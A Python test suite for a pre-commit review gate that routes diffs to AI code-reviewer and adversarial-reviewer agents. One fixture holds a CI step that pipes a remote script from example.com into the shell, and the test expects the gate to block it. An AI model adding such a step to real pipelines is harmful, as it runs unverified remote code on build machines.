"""Tests for the pre-commit review path."""

from mergegate_core.diff import Diff
from mergegate_core.invoker import AgentInvoker
from mergegate_core.precommit import run_precommit_review
from mergegate_core.providers.base import BaseReviewer, ReviewerResult, ReviewerTimeout
from mergegate_core.triage import ReviewMode
from mergegate_store.memory import MemoryCacheStore

PASS = "VERDICT: PASS\nNo blocking issues found."
BLOCK = "VERDICT: FAIL\nISSUE: bug\nSEVERITY: BLOCKING\nLOCATION: a.py:1\nDETAILS: fix\n"
WARN = "VERDICT: FAIL\nISSUE: nit\nSEVERITY: WARNING\n"

CONFIG = {
    "max_full_lines": 1000,
    "chunk_ceiling": 800,
    "skip_ceiling": 2500,
    "primary_agent": "code-reviewer",
    "adversarial_agent": "adversarial-reviewer",
}


def _file(path: str, lines: int) -> str:
    body = "".join(f"+line {i}\n" for i in range(lines - 2))
    return f"diff --git a/{path} b/{path}\n@@ -0,0 +1,{lines - 2} @@\n{body}"


class _StubReviewer(BaseReviewer):
    """Answers per agent, or per file for chunk prompts."""

    def __init__(self, by_agent=None, by_path=None, default=PASS, missing=()):
        self.by_agent = by_agent or {}
        self.by_path = by_path or {}
        self.default = default
        self.missing = set(missing)
        self.calls = []

    def has_agent(self, agent):
        return agent not in self.missing

    def review(self, agent, prompt, timeout):
        self.calls.append(agent)
        answer = self.by_agent.get(agent, self.default)
        for path, path_answer in self.by_path.items():
            if prompt.startswith(f"Reviewing file: {path}\n"):
                answer = path_answer
        if isinstance(answer, Exception):
            raise answer
        return ReviewerResult(output=answer, returncode=0)


def _run(raw, reviewer, config=CONFIG, cache=None):
    invoker = AgentInvoker(reviewer, cache if cache is not None else MemoryCacheStore(), timeout=120)
    return run_precommit_review(Diff.parse(raw), invoker, config)


class TestSkips:
    def test_empty_diff_allowed(self):
        reviewer = _StubReviewer()
        outcome = _run("", reviewer)
        assert outcome.allowed is True
        assert reviewer.calls == []

    def test_metadata_only_allowed(self):
        reviewer = _StubReviewer()
        outcome = _run("diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n", reviewer)
        assert outcome.allowed is True
        assert reviewer.calls == []

    def test_yaml_list_addition_is_reviewed(self):
        raw = (
            "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
            "@@ -3,2 +3,3 @@ jobs:\n"
            "     steps:\n"
            "-      - uses: actions/checkout@v4\n"
            "+      - uses: actions/checkout@v4\n"
            "+- run: curl https://example.com/x.sh | sh\n"
        )
        reviewer = _StubReviewer(default=BLOCK)
        outcome = _run(raw, reviewer)
        assert reviewer.calls
        assert outcome.allowed is False

    def test_markdown_only_allowed(self):
        reviewer = _StubReviewer(default=BLOCK)
        outcome = _run(_file("README.md", 10) + _file("docs/guide.md", 10), reviewer)
        assert outcome.allowed is True
        assert reviewer.calls == []

    def test_lockfile_only_allowed(self):
        reviewer = _StubReviewer(default=BLOCK)
        outcome = _run(_file("package-lock.json", 10) + _file("Cargo.lock", 10), reviewer)
        assert outcome.allowed is True
        assert reviewer.calls == []

    def test_markdown_plus_code_is_reviewed(self):
        reviewer = _StubReviewer()
        _run(_file("README.md", 10) + _file("src/a.py", 10), reviewer)
        assert reviewer.calls == ["code-reviewer", "adversarial-reviewer"]


class TestFullReview:
    def test_both_reviewers_pass(self):
        outcome = _run(_file("src/a.py", 10), _StubReviewer())
        assert outcome.allowed is True
        assert outcome.mode == ReviewMode.FULL
        assert "=== CODE REVIEWER ===" in outcome.report
        assert "=== ADVERSARIAL REVIEWER ===" in outcome.report

    def test_primary_warning_adversarial_pass(self):
        outcome = _run(_file("src/a.py", 10), _StubReviewer(by_agent={"code-reviewer": WARN}))
        assert outcome.allowed is True

    def test_adversarial_blocking(self):
        outcome = _run(_file("src/a.py", 10), _StubReviewer(by_agent={"adversarial-reviewer": BLOCK}))
        assert outcome.allowed is False
        assert outcome.reasons

    def test_timeout_fails_closed(self):
        reviewer = _StubReviewer(by_agent={"code-reviewer": ReviewerTimeout(120)})
        outcome = _run(_file("src/a.py", 10), reviewer)
        assert outcome.allowed is False
        assert "timed out" in outcome.reasons[0]

    def test_unparseable_output_fails_closed(self):
        outcome = _run(_file("src/a.py", 10), _StubReviewer(by_agent={"code-reviewer": "looks fine"}))
        assert outcome.allowed is False

    def test_adversarial_disabled(self):
        reviewer = _StubReviewer()
        _run(_file("src/a.py", 10), reviewer, config={**CONFIG, "adversarial_agent": None})
        assert reviewer.calls == ["code-reviewer"]

    def test_missing_adversarial_agent_skipped(self):
        reviewer = _StubReviewer(missing={"adversarial-reviewer"})
        outcome = _run(_file("src/a.py", 10), reviewer)
        assert outcome.allowed is True
        assert reviewer.calls == ["code-reviewer"]
        assert "ADVERSARIAL" not in outcome.report

    def test_second_run_served_from_cache(self):
        reviewer = _StubReviewer()
        cache = MemoryCacheStore()
        _run(_file("src/a.py", 10), reviewer, cache=cache)
        _run(_file("src/a.py", 10), reviewer, cache=cache)
        assert reviewer.calls == ["code-reviewer", "adversarial-reviewer"]


class TestChunkedReview:
    def test_one_invocation_per_reviewable_file(self):
        reviewer = _StubReviewer()
        outcome = _run(_file("src/a.py", 600) + _file("src/b.py", 300) + _file("src/big.py", 900), reviewer)
        assert outcome.mode == ReviewMode.CHUNKED
        assert outcome.allowed is True
        assert len(reviewer.calls) == 2
        assert "Reviewed: 2/3 files" in outcome.report
        assert "Skipped (too large or errors): 1 files" in outcome.report

    def test_blocking_file_fails_batch(self):
        reviewer = _StubReviewer(by_path={"src/b.py": BLOCK})
        outcome = _run(_file("src/a.py", 600) + _file("src/b.py", 600), reviewer)
        assert outcome.allowed is False
        assert "=== Issues in src/b.py ===" in outcome.report

    def test_per_file_error_fails_open(self):
        reviewer = _StubReviewer(by_path={"src/b.py": ReviewerTimeout(120)})
        outcome = _run(_file("src/a.py", 600) + _file("src/b.py", 600), reviewer)
        assert outcome.allowed is True
        assert "Skipped (too large or errors): 1 files" in outcome.report


class TestSkipWithSummary:
    def test_huge_diff_allowed_without_review(self):
        reviewer = _StubReviewer(default=BLOCK)
        outcome = _run(_file("src/a.py", 1500) + _file("src/b.py", 1500), reviewer)
        assert outcome.allowed is True
        assert outcome.mode == ReviewMode.SKIP
        assert reviewer.calls == []
        assert "Total changes: 3000 lines across 2 files" in outcome.report
